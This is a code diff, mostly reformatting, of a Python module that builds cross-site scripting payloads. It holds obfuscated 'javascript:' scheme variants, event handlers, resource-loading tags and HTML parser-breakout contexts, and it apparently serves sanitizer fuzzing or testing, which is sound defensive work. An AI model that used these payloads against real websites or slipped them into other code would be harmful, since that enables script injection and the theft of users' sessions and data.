@@ -39,10 +39,9 @@ class Vector:
         return _RAW.get(self.family, "{0}").format(self.aimed(elsewhere))
 
 
-
 _RAW: Mapping[str, str] = {
     "addresses": '<a href="{0}">Go</a>',
-    "attributes": "<input value=\"{0}\"><input value='{0}'><input value={0}><img src=\"{0}\" alt='{0}'><a href=\"{0}\">Go</a>",
+    "attributes": '<input value="{0}"><input value=\'{0}\'><input value={0}><img src="{0}" alt=\'{0}\'><a href="{0}">Go</a>',
     "machines": '{0}<script type="application/ld+json">{{"a":"{0}"}}</script>',
     "styles": "{0}<style>a{{color:{0}}}</style><style>{0}</style><a>x</a>",
 }
@@ -96,37 +95,148 @@ _BY_HAND = (
     *("onpointerrawupdate", "onselectstart", "onchange", "oninvalid", "onreset", "onsubmit", "onsearch", "ongotpointercapture"),
     *("onanimationend", "ontransitionend", "onbeforematch", "oncommand", "onsecuritypolicyviolation", "onslotchange"),
 )
-_HAND_ELEMENTS = ("p", "a", "b", "div", "xss", "q", "td", "h2", "svg", "math", "marquee", "form", "font", "center", "cite", "span")
+_HAND_ELEMENTS = (
+    "p",
+    "a",
+    "b",
+    "div",
+    "xss",
+    "q",
+    "td",
+    "h2",
+    "svg",
+    "math",
+    "marquee",
+    "form",
+    "font",
+    "center",
+    "cite",
+    "span",
+)
 _LEADING = (
-    *('<a href="{0}">Go</a>', "<a href='{0}'>Go</a>", '<form action="{0}"><button>Go</button></form>', "<svg><a href='{0}'><text>Go"),
+    *(
+        '<a href="{0}">Go</a>',
+        "<a href='{0}'>Go</a>",
+        '<form action="{0}"><button>Go</button></form>',
+        "<svg><a href='{0}'><text>Go",
+    ),
     *('<form><button formaction="{0}">Go</button></form>', '<iframe src="{0}"></iframe>', '<svg><a xlink:href="{0}"><text>Go'),
-    *('<object data="{0}"></object>', '<embed src="{0}">', '<area href="{0}">', '<math href="{0}">Go', '<base href="{0}"><a href=#>Go'),
+    *(
+        '<object data="{0}"></object>',
+        '<embed src="{0}">',
+        '<area href="{0}">',
+        '<math href="{0}">Go',
+        '<base href="{0}"><a href=#>Go',
+    ),
     *("<svg><a><set attributeName=href to='{0}' /><text>Go", '<input form=f formaction="{0}" type=submit><form id=f></form>'),
 )
 _SCHEMES = (
-    *("javascript:", "JavaScript:", "jAvAsCrIpT:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "java\rscript:"),
-    *("javascript&colon;", "&#106;avascript:", "java&Tab;script:", "java&NewLine;script:", "&#x6a;avascript&#58;", "\x1fjavascript:"),
+    *(
+        "javascript:",
+        "JavaScript:",
+        "jAvAsCrIpT:",
+        "java\tscript:",
+        "java\nscript:",
+        "\x01javascript:",
+        " javascript:",
+        "java\rscript:",
+    ),
+    *(
+        "javascript&colon;",
+        "&#106;avascript:",
+        "java&Tab;script:",
+        "java&NewLine;script:",
+        "&#x6a;avascript&#58;",
+        "\x1fjavascript:",
+    ),
     *("javascript:/**/", "javascript:%0a", "javascript://x%0a", "&#14;javascript:", "javascrip&#116;:", "\tj\na\rv\tascript:"),
 )
 _ASKING = (
-    *("<img src={0}>", '<img srcset="{0} 1x">', '<link rel=stylesheet href="{0}">', "<video poster='{0}'></video>", "<script src={0}></script>"),
-    *("<iframe src={0}></iframe>", "<object data={0}></object>", "<embed src={0}>", "<table background={0}>", "<input type=image src={0}>"),
-    *("<svg><image href={0} />", "<svg><image xlink:href={0} />", "<style>@import '{0}'</style>", "<style>*{{background:url({0})}}</style>"),
+    *(
+        "<img src={0}>",
+        '<img srcset="{0} 1x">',
+        '<link rel=stylesheet href="{0}">',
+        "<video poster='{0}'></video>",
+        "<script src={0}></script>",
+    ),
+    *(
+        "<iframe src={0}></iframe>",
+        "<object data={0}></object>",
+        "<embed src={0}>",
+        "<table background={0}>",
+        "<input type=image src={0}>",
+    ),
+    *(
+        "<svg><image href={0} />",
+        "<svg><image xlink:href={0} />",
+        "<style>@import '{0}'</style>",
+        "<style>*{{background:url({0})}}</style>",
+    ),
     *("<p style='background:url({0})'>x", "<picture><source srcset={0}><img></picture>", "<audio src={0} autoplay></audio>"),
-    *("<link rel=preload as=image href={0}>", "<link rel=prefetch href={0}>", "<link rel=icon href={0}>", "<body background={0}>"),
-    *("<video src={0} autoplay></video>", "<meta http-equiv=refresh content='0;url={0}'>", "<style>*{{content:url({0})}}</style>"),
+    *(
+        "<link rel=preload as=image href={0}>",
+        "<link rel=prefetch href={0}>",
+        "<link rel=icon href={0}>",
+        "<body background={0}>",
+    ),
+    *(
+        "<video src={0} autoplay></video>",
+        "<meta http-equiv=refresh content='0;url={0}'>",
+        "<style>*{{content:url({0})}}</style>",
+    ),
 )
 _SURROUNDINGS = (
-    *("{0}", '"{1}', "'{1}", '"/>{0}', "</title>{0}", "</textarea>{0}", "</style>{0}", "</script>{0}", "</noscript>{0}", "</xmp>{0}"),
+    *(
+        "{0}",
+        '"{1}',
+        "'{1}",
+        '"/>{0}',
+        "</title>{0}",
+        "</textarea>{0}",
+        "</style>{0}",
+        "</script>{0}",
+        "</noscript>{0}",
+        "</xmp>{0}",
+    ),
     *("-->{0}", "--!>{0}", "<!-->{0}", "<!--x--!>{0}", "]]>{0}", "<![CDATA[]]>{0}", "<?x>{0}", "<!x>{0}", "</x x='>{0}'>{0}"),
-    *("<table>{0}</table>", "<table><tr>{0}</table>", "<select></select>{0}", "<b><p></b>{0}</p>", "<a><a>{0}", "<form><form>{0}"),
-    *("<svg></p>{0}", "<svg><desc>{0}</desc></svg>", "<svg><title>{0}</title></svg>", "<svg><foreignObject>{0}</foreignObject></svg>"),
+    *(
+        "<table>{0}</table>",
+        "<table><tr>{0}</table>",
+        "<select></select>{0}",
+        "<b><p></b>{0}</p>",
+        "<a><a>{0}",
+        "<form><form>{0}",
+    ),
+    *(
+        "<svg></p>{0}",
+        "<svg><desc>{0}</desc></svg>",
+        "<svg><title>{0}</title></svg>",
+        "<svg><foreignObject>{0}</foreignObject></svg>",
+    ),
     *("<math><mi>{0}</mi></math>", "<math><annotation-xml encoding=text/html>{0}</annotation-xml></math>", "<math></p>{0}"),
     *("<svg><style>{0}</style></svg>", "<math><style>{0}</style></math>", "<svg><p>{0}", "<noscript><p title='</noscript>{1}'>"),
-    *('<style><a title="</style>{0}">', "<template></template>{0}", "<p>The ferry was late. {0} Nobody minded.</p>", "<ul><li>{0}</ul>"),
+    *(
+        '<style><a title="</style>{0}">',
+        "<template></template>{0}",
+        "<p>The ferry was late. {0} Nobody minded.</p>",
+        "<ul><li>{0}</ul>",
+    ),
     *("<blockquote><p>{0}</p></blockquote>", "<h2>{0}</h2>", "<article><p>{0}</p></article>", "<div hidden></div>{0}", "{0}{0}"),
-    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{2}'>{0}", "<iframe></iframe>{0}", "\0{0}", "\ufeff{0}", "\u202e{0}"),
-    *("<ruby><rt>{0}", "<frameset></frameset>{0}", "<dl><dt>{0}", "<details open><summary>{0}", "<button><button>{0}", "<nobr><nobr>{0}"),
+    *(
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{2}'>{0}",
+        "<iframe></iframe>{0}",
+        "\0{0}",
+        "\ufeff{0}",
+        "\u202e{0}",
+    ),
+    *(
+        "<ruby><rt>{0}",
+        "<frameset></frameset>{0}",
+        "<dl><dt>{0}",
+        "<details open><summary>{0}",
+        "<button><button>{0}",
+        "<nobr><nobr>{0}",
+    ),
 )
 
 
